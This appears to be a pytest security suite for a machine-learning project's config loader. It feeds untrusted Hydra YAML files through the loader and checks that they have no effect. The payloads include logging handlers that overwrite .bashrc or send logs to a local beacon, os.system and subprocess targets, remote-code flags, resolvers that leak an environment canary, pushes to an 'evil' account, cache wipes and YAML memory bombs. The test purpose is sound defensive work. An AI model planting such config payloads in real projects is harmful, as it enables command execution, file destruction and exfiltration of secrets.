"""A file of a stranger has no effect beyond the run's folder: no code, no file, no address, no variable of the environment.

Each payload is tried; looked for are its effects: a file made, an address met, the canary of the environment printed or written.
"""

import http.server
import importlib.util
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from command_line_problems import problems_of, said
from experiment_runner import ROOT
from omegaconf import OmegaConf

from lexalign.config import file_limits
from lexalign.config.loading import CONF_ONLY, Sources
from lexalign.config.rules import trust
from lexalign.errors import ConfigError

CANARY = "canary-of-the-environment"
# {url}, {home} and {out} are put in: an address that listens, a folder that stands for the user's home, a folder of payloads.
HANDLER = "hydra: {{job_logging: {{version: 1, handlers: {{y: {0}}}, root: {{level: DEBUG, handlers: [y]}}}}}}"
PAYLOADS: dict[str, list[str]] = {
    "log handlers": [
        HANDLER.format("{class: logging.FileHandler, filename: <home>/pwned, mode: a}"),
        HANDLER.format("{class: logging.FileHandler, filename: <home>/.bashrc, mode: w}"),
        HANDLER.format("{class: logging.handlers.HTTPHandler, host: '<host>', url: /log, method: POST}"),
        HANDLER.format("{class: logging.handlers.SocketHandler, host: 127.0.0.1, port: <port>}"),
        HANDLER.format("{class: logging.handlers.SMTPHandler, mailhost: '<host>', fromaddr: a, toaddrs: b, subject: c}"),
        HANDLER.format("{'()': logging.FileHandler, filename: <home>/pwned}"),
        "hydra: {hydra_logging: {version: 1, handlers: {y: {class: logging.FileHandler, filename: <home>/pwned}}, root: {handlers: [y]}}}",
        "defaults: [{override /hydra/job_logging: default}]\nhydra: {job_logging: {handlers: {file: {filename: <home>/pwned}}}}",
    ],
    "hydra's own": [
        "hydra: {callbacks: {x: {_target_: hydra.experimental.callbacks.PickleJobInfoCallback}}}",
        "hydra: {callbacks: {x: {_target_: os.system, command: touch <home>/pwned}}}",
        "hydra: {run: {dir: <home>/pwned}}",
        "hydra: {output_subdir: <home>/pwned}",
        "hydra: {job: {env_set: {HF_ENDPOINT: '<url>'}}}",
        "hydra: {job: {env_copy: [CANARY]}}",
        "hydra: {searchpath: ['file://<home>']}",
        "hydra: {verbose: true}",
    ],
    "launchers": [
        "defaults: [{override /sweep: slurm}]\nhydra: {launcher: {setup: ['touch <home>/pwned']}}",
        "hydra: {launcher: {setup: ['touch <home>/pwned']}}",
        "hydra: {launcher: {additional_parameters: {wrap: 'touch <home>/pwned'}}}",
        "hydra: {launcher: {ray: {init: {address: '<host>'}}}}",
        "hydra: {launcher: {ray: {init: {runtime_env: {pip: ['<url>']}}}}}",
        "hydra: {launcher: {_target_: subprocess.run, args: [touch, <home>/pwned]}}",
        "hydra: {sweeper: {_target_: os.system}}",
    ],
    "code": [
        "extensions: [subprocess]\ndata: {converter: subprocess.getoutput}",
        "data: {converter: subprocess.getoutput}",
        "data: {converter: lexalign.artifacts.fingerprint.run_git}",
        "data: {converter: lexalign.data.converters.DataError}",
        "data: {converter: lexalign.artifacts.files.remove_unfinished}",
        "stage: {_target_: lexalign.artifacts.files.write_text}",
        "stage: {_target_: lexalign.cache.cache.manage_cache}",
        "tracking: {_target_: lexalign.sweeps.job.respawn_job}",
        "tracking: {_target_: lexalign.tracking.wandb_tracker.choose_mode}",
        "method: {settings_class: lexalign.config.schema.Data}",
        "method: {_target_: lexalign.trainers.sft.Path}",
        "method: {_target_: lexalign.compat.freeze_first_imports}",
        "stage: {_target_: lexalign.cli.main}",
    ],
    "remote code": [
        "model: {path: a/b, parent: null, trust_remote_code: true, revision: 0123456789012345678901234567890123456789}",
        "evaluate: {tasks: [x], task_dir: <home>}",
    ],
    "parents": [
        "<parent> parent_overrides: ['extensions=[subprocess]']}",
        "<parent> parent_overrides: ['evaluate.task_dir=<home>', 'evaluate.tasks=[x]']}",
        "<parent> parent_overrides: ['output_dir=<home>/pwned']}",
        "<parent> parent_overrides: ['store=<home>', 'cache=clear']}",
        "<parent> parent_overrides: ['evaluate={{judge:{{url:<url>}}}}']}".replace("{{", "{").replace("}}}}", "}}"),
        "<parent> parent_overrides: ['hydra.run.dir=<home>/pwned']}",
        "<parent> parent_overrides: ['++model.trust_remote_code=true']}",
    ],
    "resolvers": [
        "tracking: {name: '${oc.env:CANARY}'}",
        "download: {include: [oc.env, '${${download.include[0]}:CANARY}']}",
        "download: {exclude: [env], include: ['${oc.${download.exclude[0]}:CANARY}']}",
        "download: {include: ['{oc.env:CANARY}', '${oc.decode:\"$${download.include[0]}\"}']}",
        "download: {include: ['${oc.create:${oc.env:CANARY}}']}",
        "model: {path: '${oc.env:CANARY}', parent: null}",
        "model: {path: '${hydra:runtime.cwd}', parent: null}",
        "tracking: {name: '${hydra.runtime.cwd}'}",
        "tracking: {name: '\\${oc.env:CANARY}'}",
        "tracking: {name: '${ oc.env : CANARY }'}",
        "tracking: {tags: ['${oc.select:x,${oc.env:CANARY}}']}",
        "seed: '${oc.decode:${oc.env:CANARY}}'",
    ],
    "addresses": [
        "evaluate: {judge: {url: '<url>', model: x}}",
        "evaluate: {judge: {url: '<url>', model: x, key_env: CANARY}}",
        "hardware: {processes: 2, nodes: 2, node: 0, rendezvous: '<host>'}",
        "export: {push: evil/model}",
        "tracking: {entity: evil}",
        "tracking: {project: evil}",
        "defaults: [{override /stage: export}]\nexport: {push: evil/model, private: false}",
    ],
    "files": [
        "output_dir: <home>/pwned",
        "store: <home>/pwned",
        "download: {output_dir: <home>/pwned}",
        "report_csv: <home>/pwned.csv",
        "defaults: [{override /tracking: trackio}]\ntracking: {folder: <home>/pwned}",
        "resume: <home>",
    ],
    "deleting": ["defaults: [{override /cache: clear}]", "cache: {action: clear}", "store: <home>\ndefaults: [{override /cache: clear}]"],
    "other actions": ["reproduce: <home>", "report: <home>", "compare: [<home>, <home>]"],
}
SHADOWS = {
    "config.yaml": "defaults: [_self_]\noutput_dir: <home>/pwned\n",
    "cache/keep.yaml": "action: clear\nmax_gb: 1\n",
    "tracking/wandb.yaml": "_target_: lexalign.tracking.WandbTracker\nproject: evil\nentity: evil\n",
    "hydra/job_logging/none.yaml": "version: 1\nroot: {handlers: [y]}\n"
    "handlers: {y: {class: logging.FileHandler, filename: <home>/pwned}}\n",
    "hydra/launcher/basic.yaml": "_target_: subprocess.run\nargs: [touch, <home>/pwned]\n",
    "hardware/auto.yaml": "rendezvous: '<host>'\n",
}
BOMBS = {
    "aliases": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)),
    "an alias of itself": "a: &a [*a]\n",
    "depth": "a: " + "[" * 5000 + "]" * 5000 + "\n",
    "size": "a: " + "x" * 2_000_000 + "\n",
}


class Beacon:
    """An address that notes who comes."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        beacon = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                beacon.visits.append(repr(self.raw_requestline if hasattr(self, "raw_requestline") else "connected"))
                self.close_connection = True

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()


@pytest.fixture(scope="module")
def beacon() -> Iterator[Beacon]:
    found = Beacon()
    yield found
    found.server.shutdown()


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    """A home with a file of the user's own, and a canary in the environment."""
    folder = tmp_path / "home"
    (folder / "reference").mkdir(parents=True)
    (folder / "reference" / "letters.bib").write_text("thesis")
    (folder / ".bashrc").write_text("mine")
    monkeypatch.setenv("CANARY", CANARY)
    monkeypatch.chdir(tmp_path)
    return folder


def list_files(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def fill(text: str, home: Path, beacon: Beacon) -> str:
    port = beacon.server.server_address[1]
    parent = "defaults: [{override /model: tiny_sft}]\nmodel: {parent: tiny/sft,"
    for name, value in {
        "parent": parent,
        "home": home,
        "url": f"http://127.0.0.1:{port}",
        "host": f"127.0.0.1:{port}",
        "port": port,
    }.items():
        text = text.replace(f"<{name}>", str(value))
    return text


CASES = [(kind, number) for kind, payloads in PAYLOADS.items() for number in range(len(payloads))]


def test_there_are_enough_payloads_of_enough_kinds():
    assert len(CASES) + len(SHADOWS) + len(BOMBS) >= 60 and len(PAYLOADS) + 2 >= 12


@pytest.mark.parametrize(("kind", "number"), CASES, ids=[f"{kind} {number}" for kind, number in CASES])
def test_an_experiment_file_has_no_effect(kind, number, home, tmp_path, beacon, capfd):
    shared = tmp_path / "shared" / "experiment"
    shared.mkdir(parents=True)
    (shared / "theirs.yaml").write_text(f"# @package _global_\n{fill(PAYLOADS[kind][number], home, beacon)}\n")
    before, visits = list_files(tmp_path), len(beacon.visits)
    words = ["--config-dir", str(shared.parent), "experiment=theirs"]
    problems = problems_of(words) if "sweep: slurm" not in PAYLOADS[kind][number] else problems_of(["-m", *words, "seed=0,1"])
    printed = capfd.readouterr()
    assert problems, "refused"
    assert list_files(tmp_path) == before and len(beacon.visits) == visits
    assert CANARY not in "".join(problems) + printed.out + printed.err


@pytest.mark.parametrize("name", SHADOWS)
def test_a_file_that_stands_before_one_of_ours_has_no_effect(name, home, tmp_path, beacon):
    file = tmp_path / "shared" / name
    file.parent.mkdir(parents=True)
    file.write_text(fill(SHADOWS[name], home, beacon))
    before, visits = list_files(tmp_path), len(beacon.visits)
    if not problems_of(["--config-dir", str(tmp_path / "shared")]):  # Hydra takes ours, which comes first
        trees = [OmegaConf.to_container(source.compose([]), resolve=False) for source in (Sources((str(tmp_path / "shared"),)), CONF_ONLY)]
        assert [{**tree, "hydra": None} for tree in trees][0] == {**trees[1], "hydra": None}
        assert not trust.find_untrusted_settings(Sources((str(tmp_path / "shared"),)).compose([]), [], Sources((str(tmp_path / "shared"),)))
    assert list_files(tmp_path) == before and len(beacon.visits) == visits


@pytest.mark.parametrize("name", BOMBS)
def test_a_file_that_eats_memory_is_refused(name, tmp_path):
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "theirs.yaml").write_text(f"# @package _global_\n{BOMBS[name]}")
    problems = problems_of(["--config-dir", str(tmp_path), "experiment=theirs"])
    assert said(problems, "theirs.yaml"), problems


def test_our_own_files_are_within_the_limits():
    assert all(file_limits.find_file_problem(path) is None for path in (ROOT / "conf").rglob("*.yaml"))


def test_what_is_typed_is_allowed_beside_a_strangers_file(home, tmp_path):
    shared = tmp_path / "shared" / "experiment"
    shared.mkdir(parents=True)
    (shared / "theirs.yaml").write_text("# @package _global_\noutput_dir: elsewhere\ntrain: {epochs: 2}\n")
    words = ["--config-dir", str(shared.parent), "experiment=theirs"]
    (problem,) = problems_of([*words, "dry_run=true"])
    assert (
        problem.startswith("output_dir=elsewhere: is set by a file of ")
        and "type output_dir=<value>, or copy the file below conf/" in problem
    )
    assert problems_of([*words, "dry_run=true", "output_dir=mine", "tracking.project=mine"]) == []


def test_every_marked_setting_is_one_of_the_schema_with_a_reason():
    marked = trust.list_typed_only()
    expected = {
        "extensions", "output_dir", "store", "cache.action", "model.trust_remote_code", "evaluate.task_dir", "evaluate.judge.url",
        "evaluate.judge.key_env", "tracking.entity", "tracking.project", "download.output_dir", "export.push", "hardware.rendezvous",
    }  # fmt: skip
    assert expected <= set(marked) and all(because.startswith("it ") for because in marked.values())
    tree = CONF_ONLY.compose([])
    assert all(key.split(".")[0] in tree for key in marked)


def test_the_page_lists_them():
    spec = importlib.util.spec_from_file_location("generate_security", ROOT / "docs" / "generate_security.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    page = module.PAGE.read_text(encoding="utf-8")
    assert module.make_page(page) == page, "type: python docs/generate_security.py"


def test_a_run_folder_of_a_stranger_may_not_set_what_has_to_be_typed():
    from lexalign.config import compose

    composed = compose.compose(["tracking=none", "dry_run=true"])
    record = json.loads(json.dumps(composed.tree))
    assert trust.find_untrusted_records({**record, "output_dir": composed.experiment.output_dir}, composed.experiment) == []
    record["model"]["trust_remote_code"] = True
    record["evaluate"]["judge"] |= {"url": "http://evil", "key_env": "HOME"}
    record["output_dir"] = composed.experiment.output_dir
    with pytest.raises(ConfigError) as refused:
        compose.load_recorded(record, composed.experiment)
    assert [problem.split("=")[0] for problem in refused.value.problems] == [
        "model.trust_remote_code", "evaluate.judge.url", "evaluate.judge.key_env",
    ]  # fmt: skip


def test_points_of_a_sweep_and_a_parents_overrides_are_files_too():
    for word in ("extensions=[os]", "+extensions=[os]", "evaluate.judge={url: x}", "evaluate={judge: {key_env: HOME}}", "hydra.run.dir=x"):
        assert trust.find_untrusted_overrides([word], "here"), word
    assert trust.find_untrusted_overrides(["data=pairs", "data.path=x", "tracking=none", "cache=off", "evaluate.limit=3"], "here") == []


def test_a_cleared_cache_leaves_what_is_not_ours(home, tmp_path):
    """As one types it: the folder may hold a user's own files."""
    (home / "tokens").mkdir()
    done = subprocess.run(
        [sys.executable, str(ROOT / "run.py"), f"store={home}", "cache=clear"],
        capture_output=True, text=True, cwd=tmp_path, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == 0 and (home / "reference" / "letters.bib").read_text() == "thesis"
    assert "0 entries removed, 0.0 MB freed; 1 other files or folders stay" in done.stdout
